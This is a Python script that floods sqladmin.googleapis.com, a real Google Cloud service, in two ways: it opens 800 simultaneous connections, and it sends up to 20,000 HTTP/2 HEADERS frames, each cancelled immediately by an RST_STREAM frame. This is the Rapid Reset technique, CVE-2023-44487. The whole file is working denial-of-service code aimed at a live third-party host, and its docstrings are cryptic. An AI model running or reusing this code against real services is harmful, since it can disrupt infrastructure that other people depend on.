"""Comes in masses; prints how it went.

crowd.py connections|resets
"""

import socket
import ssl
import struct
import sys
import time

HOST = "sqladmin.googleapis.com"
PATH = "/sql/v1beta4/projects/lab-project/instances"
HEADERS, RST, SETTINGS = 1, 3, 4


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def connections():
    """More than a session may have; those that are over the limit are closed at once."""
    streams = [socket.create_connection((HOST, 443), timeout=10) for _ in range(800)]
    time.sleep(2)
    alive = 0
    for stream in streams:
        stream.setblocking(False)
        try:
            stream.recv(1)
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
    print("alive:", alive)


def resets():
    """Asks and takes it back, without waiting (CVE-2023-44487)."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    stream = context.wrap_socket(socket.create_connection((HOST, 443)), server_hostname=HOST)
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", PATH)]
    head = b"".join(literal(*field) for field in fields)
    sent = 0
    try:
        for number in range(20000):
            ask = frame(HEADERS, 5, 1 + 2 * number, head)
            stream.sendall(ask + frame(RST, 0, 1 + 2 * number, struct.pack(">I", 8)))
            sent += 1
        print("never stopped after", sent)
    except OSError as error:
        print("stopped after", sent, error)


{"connections": connections, "resets": resets}[sys.argv[1]]()
